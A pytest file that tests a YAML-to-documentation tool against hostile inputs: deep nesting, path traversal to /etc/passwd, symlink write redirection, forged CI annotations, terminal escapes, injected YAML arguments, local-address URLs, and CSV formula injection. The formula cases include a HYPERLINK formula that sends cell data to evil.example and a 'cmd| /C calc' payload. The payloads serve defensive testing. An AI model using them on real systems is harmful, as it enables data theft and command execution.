"""Hostile pull requests, round 2: attacks built at test time and run through the real commands.

Each class of attack (issue 16) has its variants here; the files are made in a copy of the
fixture dossier, so the repository itself never holds a file some systems cannot check out.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, TODAY
from dossiergen import cli

DOSSIER = [sys.executable, "-m", "dossiergen"]


def run(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The `dossier` command in a fresh process: a crash shows as a signal, not as a passing test."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "scripts")}
    return subprocess.run([*DOSSIER, "--root", str(project), "--today", TODAY.isoformat(), *args],
                          capture_output=True, text=True, timeout=120, env=env, cwd=project)


def plant(project: Path, rel: str, text: str | bytes) -> Path:
    path = project / "dossier" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


# --- 1. the parser cannot be killed ------------------------------------------------------

DEEP = {
    "flow-sequences": ("events/deep.yaml", "title: T\nkind: " + "[" * 30000 + "\n", 2),
    "flow-mappings": ("events/deep.yaml", "title: T\nkind: " + "{a: " * 30000 + "\n", 2),
    "closed-flow": ("events/deep.yaml", "title: T\nkind: " + "[" * 30000 + "]" * 30000 + "\n", 2),
    "block-sequences": ("events/deep.yaml", "title: T\nsummary:\n" + "- " * 30000 + "x\n", 3),
    "block-mappings": ("places/deep.yaml", "name: X\n" + "".join(" " * i + f"k{i}:\n" for i in range(400)) + " " * 400 + "v: 1\n", 2),
}


@pytest.mark.parametrize("case", sorted(DEEP))
def test_deep_nesting_is_refused_before_the_parser_recurses(valid_root: Path, case: str) -> None:
    rel, text, line = DEEP[case]
    plant(valid_root, rel, text)
    for command in (["check"], ["fmt", "--check"], ["build"]):
        result = run(valid_root, *command)
        assert result.returncode == 1, (command, result.returncode, result.stderr[-500:])  # not -11 (SIGSEGV)
        assert "Traceback" not in result.stderr
    check = run(valid_root, "check")
    assert f"dossier/{rel}:{line}:" in check.stderr and "erreur[too-deep]" in check.stderr, check.stderr


# --- 2. ids that are not record names ----------------------------------------------------

@pytest.mark.parametrize("rel", ["people/index.yaml", "events/index.yaml", "places/con.yaml", "organisations/nul.yaml", "topics/aux.yaml", "sources/com1.yaml", "people/lpt9.yaml", "places/prn.yaml"])
def test_reserved_ids_are_refused(valid_root: Path, rel: str, capsys: pytest.CaptureFixture[str]) -> None:
    kind = rel.split("/")[0]
    body = {"people": "name: X\n", "places": "name: X\nkind: city\n", "organisations": "name: X\nkind: other\n",
            "topics": "name: X\ndescription: D\n", "sources": "title: T\nlanguage: fr\nkind: other\nsummary: S\n",
            "events": 'title: T\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: S\nsources: [agence-2021-rencontre]\n'}[kind]
    plant(valid_root, rel, body)
    assert cli.main(["--root", str(valid_root), "--today", TODAY.isoformat(), "check"]) == 1
    err = capsys.readouterr().err
    assert f"dossier/{rel}:1:1: erreur[reserved-id] (nom du fichier)" in err, err
    assert "vouliez-vous dire" in err


# --- 7. nothing is read outside the repository --------------------------------------------

def test_a_dossier_folder_that_is_a_link_is_not_followed(valid_root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (valid_root / "dossier").rename(elsewhere)
    (valid_root / "dossier").symlink_to(elsewhere, target_is_directory=True)
    result = run(valid_root, "check")
    assert result.returncode == 1 and "dossier:1:1: erreur[symlink]" in result.stderr, result.stderr


@pytest.mark.parametrize("seed", ["../../../etc/passwd", "/etc/passwd", "seeds/x.txt", "..", "x.txt\u202e", "x.yaml"])
def test_a_seed_is_a_file_name_not_a_path(valid_root: Path, seed: str) -> None:
    path = valid_root / "dossier" / "sources" / "agence-2021-rencontre.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("seed: 000_0000000000000000.txt", f'seed: "{seed}"'), encoding="utf-8")
    result = run(valid_root, "check")
    assert result.returncode == 1 and "sources/agence-2021-rencontre.yaml:" in result.stderr
    assert "erreur[bad-seed] seed" in result.stderr or "erreur[bad-char] seed" in result.stderr, result.stderr


def test_tests_read_seeds_only_from_the_seeds_folder(tmp_path: Path) -> None:
    from conftest import SEEDS, seed_path

    for name in ("../STYLE.md", "/etc/passwd", "../../main/README.md"):
        with pytest.raises(ValueError):
            seed_path(name)
    if SEEDS.is_dir() and any(SEEDS.glob("*.txt")):
        first = sorted(SEEDS.glob("*.txt"))[0]
        assert seed_path(first.name) == first


# --- 8. nothing is written outside the repository -----------------------------------------

def _target(tmp_path: Path) -> Path:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    return victim


@pytest.mark.parametrize("plant_at", ["evenements/2021-09-22-rencontre.md.tmp", "evenements/2021-09-22-rencontre.md", "chronologie.md", "personnes"])
def test_a_link_planted_in_the_output_redirects_nothing(valid_root: Path, tmp_path: Path, plant_at: str) -> None:
    assert run(valid_root, "build").returncode == 0
    victim = _target(tmp_path)
    link = valid_root / "docs" / "dossier" / plant_at
    if link.is_dir():
        import shutil

        shutil.rmtree(link)
        link.symlink_to(tmp_path, target_is_directory=True)
    else:
        link.unlink(missing_ok=True)
        link.symlink_to(victim)
    before = sorted(tmp_path.iterdir())
    result = run(valid_root, "build")
    assert result.returncode == 2 and "symbolic link" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert sorted(tmp_path.iterdir()) == before  # nothing created beside the victim either


def test_a_docs_folder_that_is_a_link_is_refused(valid_root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere-docs"
    (valid_root / "docs").mkdir(exist_ok=True)
    (valid_root / "docs").rename(elsewhere)
    (valid_root / "docs").symlink_to(elsewhere, target_is_directory=True)
    result = run(valid_root, "build")
    assert result.returncode == 2 and "symbolic link" in result.stderr, result.stderr
    assert not (elsewhere / "dossier").exists()


def test_temporary_files_are_not_predictable(valid_root: Path) -> None:
    """A page is written through a new, exclusively created file: a planted `.tmp` is never opened."""
    out = valid_root / "docs" / "dossier"
    assert run(valid_root, "build").returncode == 0
    page = out / "chronologie.md"
    page.write_text("stale\n", encoding="utf-8")
    planted = out / "chronologie.md.tmp"
    planted.write_text("planted\n", encoding="utf-8")
    assert run(valid_root, "build").returncode == 0
    assert page.read_text(encoding="utf-8") != "stale\n" and not planted.exists()  # rewritten; the stray file removed


# --- 9. diagnostics cannot forge CI output ------------------------------------------------

FORGED = "::error file=README.md,line=1::forged"


@pytest.mark.parametrize("where", ["key", "file name", "value", "escape sequence"])
def test_diagnostics_are_one_line_each_and_forge_nothing(valid_root: Path, where: str) -> None:
    event = 'title: T\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: S\nsources: [agence-2021-rencontre]\n'
    if where == "key":
        plant(valid_root, "events/x.yaml", event + f'"k\\n{FORGED}\\r\\n{FORGED}": 1\n')
    elif where == "file name":
        plant(valid_root, f"events/x\n{FORGED}.yaml", event)
    elif where == "value":
        plant(valid_root, "events/x.yaml", event.replace("kind: other", f'kind: "a\\n{FORGED}"'))
    else:
        plant(valid_root, "events/x.yaml", event + '"\\e[2J\\e]0;pwned\\a\\x9b31m": 1\n')
    for fmt in ("text", "github"):
        result = run(valid_root, "check", "--format", fmt)
        assert result.returncode == 1, result.stderr
        out = result.stdout + result.stderr
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
        lines = out.splitlines()
        assert not [line for line in lines if line.startswith(("::error file=README.md", "::error::"))], out
        ours = [line for line in lines if line.startswith("::")]
        assert all(line.startswith("::error file=dossier/events/x") for line in ours), ours
        if fmt == "text":  # each diagnostic: one line, and its suggestion on the next
            report = [line for line in result.stderr.splitlines() if line and not line.startswith("    vouliez-vous dire")]
            assert all(line.startswith("dossier/events/x") for line in report[:-1]) and "erreur" in report[-1], report


# --- 6. spreadsheets ------------------------------------------------------------------------

FORMULAS = ['=1+1', 'a;=HYPERLINK("https://evil.example/?"&A1;"x")', "prix, +cmd|' /C calc'!A0", "deux lignes\n=2+2",
            'a;"@SUM(1)"', "tab\t-2+3", "x | =1", "y ;  =1", "@x", "+x", "-x"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_csv_cells_are_inert_however_a_spreadsheet_splits_them(valid_root: Path, delimiter: str) -> None:
    import csv
    import io

    from dossiergen import pipeline
    from dossiergen.config import Settings

    summary = " ".join(FORMULAS).replace("\n", " ") + "\n\n" + "\n\n".join(FORMULAS)
    event = ('title: "=cmd|\' /C calc\'!A0"\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: |-\n'
             + "".join(f"  {line}\n" if line else "\n" for line in summary.split("\n")) + "sources: [agence-2021-rencontre]\n")
    plant(valid_root, "events/formules.yaml", event)
    settings = Settings.from_root(valid_root, today=TODAY)
    files = pipeline.downloads(pipeline.check(settings), settings)
    checked = 0
    for path, data in files.items():
        if path.suffix != ".csv":
            continue
        text = data.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for field in row:
                for piece in field.split("\n"):  # a cell pasted elsewhere splits on its line breaks
                    bare = piece.lstrip(" \"'") if not piece.lstrip(" \"").startswith("'") else ""
                    try:
                        float(bare)
                        continue  # our own numbers (longitudes) stay numbers
                    except ValueError:
                        pass
                    assert not bare[:1] or bare[0] not in "=+-@\t\r", (path, delimiter, piece)
                    checked += 1
    assert checked > 30


# --- 4. the same YAML gives the same bytes under any hash seed -----------------------------

def _digest_of_build(project: Path, seed: str) -> dict[str, str]:
    import hashlib

    out = project / "docs" / "dossier"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "scripts"), "PYTHONHASHSEED": seed}
    for command in (["build"], ["export", "--out", str(project / "export")]):
        result = subprocess.run([*DOSSIER, "--root", str(project), "--today", TODAY.isoformat(), *command],
                                capture_output=True, text=True, timeout=300, env=env, cwd=project)
        assert result.returncode == 0, result.stderr
    files = [*out.rglob("*"), *(project / "export").rglob("*")]
    return {str(p.relative_to(project)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files if p.is_file()}


def test_output_does_not_depend_on_the_hash_seed(valid_root: Path) -> None:
    """Names equal under casefold, sets of ids, dict orders: two seeds, byte-identical pages and downloads."""
    for rid, name in (("ville-a", "Ville"), ("ville-b", "VILLE"), ("ville-c", "ville"), ("ville-d", "Ville ")):
        plant(valid_root, f"places/{rid}.yaml", f'name: "{name.strip()}"\nkind: city\ncountry: nordland\ncoordinates: {{lat: 45, lon: 30}}\n')
    for rid, name in (("org-a", "Agence"), ("org-b", "AGENCE"), ("org-c", "agence")):
        plant(valid_root, f"organisations/{rid}.yaml", f"name: {name}\nkind: news-agency\n")
    plant(valid_root, "events/a-villes.yaml", 'title: T\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: S\nsources: [agence-2021-rencontre]\n'
          "places:\n" + "".join(f"  - place: ville-{x}\n    basis: inferred\n    note: N\n" for x in "abcd")
          + "organisations: [org-a, org-b, org-c]\n")
    first = _digest_of_build(valid_root, "1")
    import shutil

    shutil.rmtree(valid_root / "docs" / "dossier")
    shutil.rmtree(valid_root / "export")
    second = _digest_of_build(valid_root, "4242")
    assert first == second
    assert len(first) > 30


# --- 13. every error located; check refuses what fmt refuses --------------------------------

EVENT_OK = 'title: T\nkind: other\ndate: "2021"\ndate_basis: printed\nsummary: S\nsources: [agence-2021-rencontre]\n'
LOCATED = {
    "raw control byte": (EVENT_OK.replace("summary: S", "summary: a\x01b"), "bad-char", 5, 11),
    "raw escape byte": (EVENT_OK.replace("title: T", "title: \x1b[2J"), "bad-char", 1, 8),
    "anchor without alias": (EVENT_OK.replace("kind: other", "kind: &k other"), "yaml-alias", 2, 7),
    "U+2028 as a line break": (EVENT_OK.replace("\nkind:", "\u2028kind:"), "line-break", 1, 9),
    "U+0085 as a line break": (EVENT_OK.replace("\nkind:", "\x85kind:"), "line-break", 1, 9),
    "CR-only line endings": (EVENT_OK.replace("\n", "\r"), "line-break", 1, 9),
}


@pytest.mark.parametrize("case", sorted(LOCATED))
def test_errors_are_located_and_check_agrees_with_fmt(valid_root: Path, case: str) -> None:
    text, code, line, col = LOCATED[case]
    plant(valid_root, "events/x.yaml", text.encode("utf-8"))
    check = run(valid_root, "check")
    assert check.returncode == 1 and f"dossier/events/x.yaml:{line}:{col}: erreur[{code}]" in check.stderr, check.stderr
    assert "\x1b" not in check.stderr
    assert run(valid_root, "fmt", "--check").returncode != 0  # fmt refuses or would rewrite it too


def test_crlf_line_endings_are_fine(valid_root: Path) -> None:
    plant(valid_root, "events/x.yaml", EVENT_OK.replace("\n", "\r\n").encode("utf-8"))
    assert run(valid_root, "check").returncode == 0


# --- 12. dossier new: refusals, never a traceback, never injected fields -------------------

@pytest.mark.parametrize("args, said", [
    (["source", "--name", "Titre\x01", "--date", "2021"], "U+0001"),
    (["person", "--name", "\u202eNom"], "U+202E"),
    (["person", "--name", "\u0301\u0308"], "aucun caractère visible"),
    (["source", "--name", "T", "--url", "http://[::1"], "--url"),
    (["source", "--name", "T", "--url", "http://127.0.0.1/admin"], "adresse publique"),
    (["source", "--name", "T", "--url", "https://user:pw@example.org/"], "adresse publique"),
    (["event", "--name", "Ev", "--date", "2021", "--source", "agence-2021-rencontre]\nkind: meeting\nx: [y"], "U+000A"),
    (["event", "--name", "Ev", "--date", "2021", "--source", "agence-2021-rencontre], kind: x, y: [z"], "identifiant de source"),
    (["event", "--name", "Ev", "--date", "2021", "--source", "agence-2021-rencontr"], "vouliez-vous dire agence-2021-rencontre"),
    (["place", "--name", "Index", "--id", "index"], "réservé"),
])
def test_new_refuses_hostile_arguments_without_a_trace(valid_root: Path, args: list[str], said: str) -> None:
    before = sorted(p.relative_to(valid_root) for p in (valid_root / "dossier").rglob("*"))
    result = run(valid_root, "new", *args)
    assert result.returncode == 1, (result.returncode, result.stderr)
    assert said in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert sorted(p.relative_to(valid_root) for p in (valid_root / "dossier").rglob("*")) == before  # nothing written, not even empty


# --- 10. cost grows with the input, not faster (figures: make bench-hostile) ---------------

def test_look_alikes_give_one_warning_a_record_and_few_comparisons(monkeypatch: pytest.MonkeyPatch) -> None:
    from dossiergen.model import records as r
    from dossiergen.model import similar

    calls = {"n": 0}
    real = similar.similarity

    def counted(a: str, b: str, people: bool = False) -> float:
        calls["n"] += 1
        return real(a, b, people)

    monkeypatch.setattr(similar, "similarity", counted)
    similar._close_pairs.cache_clear()
    people = [r.Person(r.RecordId(f"p{i:04d}"), f"dossier/people/p{i:04d}.yaml", "Jean Dupont",
                       aliases=tuple(r.Alias(f"Jean Dupon{'t' * (1 + j % 3)} {chr(97 + j)}") for j in range(20))) for i in range(400)]
    names = [n for p in people for n in similar.names_of(p, "people")]
    pairs = similar.close_pairs(names)
    # Identical names: each record paired with the first, not with every other (399, not 79,800).
    assert len({(a.id, b.id) for a, b, _ in pairs}) < 2 * len(people)
    assert calls["n"] < 50 * len(people)  # blocks of similar forms are bounded; pairs of records are not all scored


def test_a_long_within_chain_is_checked_once_and_a_loop_still_found(valid_root: Path) -> None:
    for i in range(3000):
        parent = f"\nwithin: lieu-{i + 1}" if i + 1 < 3000 else "\nwithin: lieu-2990"
        plant(valid_root, f"places/lieu-{i}.yaml", f"name: Lieu {i}\nkind: region{parent}\n")
    result = run(valid_root, "check")
    assert result.returncode == 1
    loops = [line for line in result.stderr.splitlines() if "erreur[cycle]" in line]
    assert len(loops) == 10 and all("lieu-29" in line for line in loops)  # the ten places of the loop, no others


def test_crowded_events_keep_the_network_page_linear(valid_root: Path) -> None:
    from dossiergen import pipeline
    from dossiergen.config import Settings
    from dossiergen.pages.views import LARGE_EVENT

    for i in range(120):
        plant(valid_root, f"people/personne-{i}.yaml", f"name: Personne {i:03d}\n")
    for k in range(40):
        some = "".join(f"  - personne-{(k * 7 + j) % 120}\n" for j in range(50))
        plant(valid_root, f"events/2021-reunion-{k}.yaml", EVENT_OK.replace("title: T", f"title: Réunion {k}") + "participants:\n" + some)
    _, pages = pipeline.pages(Settings.from_root(valid_root, today=TODAY))
    network = next(text for path, text in pages.items() if str(path) == "reseau.md")
    # 40 events x 1,225 pairs would be 49,000 lines; each crowded event is one line instead.
    assert network.count("\n- ") < 40 + 400 and "## Grandes réunions" in network and LARGE_EVENT < 50
    assert len(network.encode()) < 2_000_000


# --- 3. a failed build leaves the last good site -----------------------------------------

def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.slow
@pytest.mark.parametrize("failure", ["strict warning", "hook error"])
def test_a_failed_build_keeps_the_last_good_site_and_pages(tmp_path: Path, failure: str) -> None:
    from conftest import DATA, make_project, mkdocs_build

    project = make_project(tmp_path / "project", DATA / "valid" / "dossier")
    site = project / "site"
    first = mkdocs_build(project, site)
    assert first.returncode == 0, first.stderr
    good_site, good_pages = _tree(site), _tree(project / "docs" / "dossier")
    # A valid edit (it would change the pages), then a failure after validation passed.
    event = project / "dossier" / "events" / "2021-09-22-rencontre.yaml"
    event.write_text(event.read_text(encoding="utf-8").replace("title: Rencontre à Sampleville", "title: Rencontre modifiée"), encoding="utf-8")
    if failure == "strict warning":
        (project / "docs" / "cassee.md").write_text("# Cassée\n\n[lien](nulle-part.md)\n", encoding="utf-8")
    else:
        (project / "docs" / "dossier" / "lien").symlink_to(tmp_path)  # the writer refuses a link in its output
    second = mkdocs_build(project, site)
    assert second.returncode != 0
    assert _tree(site) == good_site  # byte for byte, no page of the failed build
    if failure == "strict warning":
        assert _tree(project / "docs" / "dossier") == good_pages
    assert not (project / "site.building").exists()
    # And a build that succeeds replaces both.
    (project / "docs" / "cassee.md").unlink(missing_ok=True)
    (project / "docs" / "dossier" / "lien").unlink(missing_ok=True)
    third = mkdocs_build(project, site)
    assert third.returncode == 0, third.stderr
    assert "Rencontre modifiée" in (site / "dossier" / "evenements" / "2021-09-22-rencontre" / "index.html").read_text(encoding="utf-8")
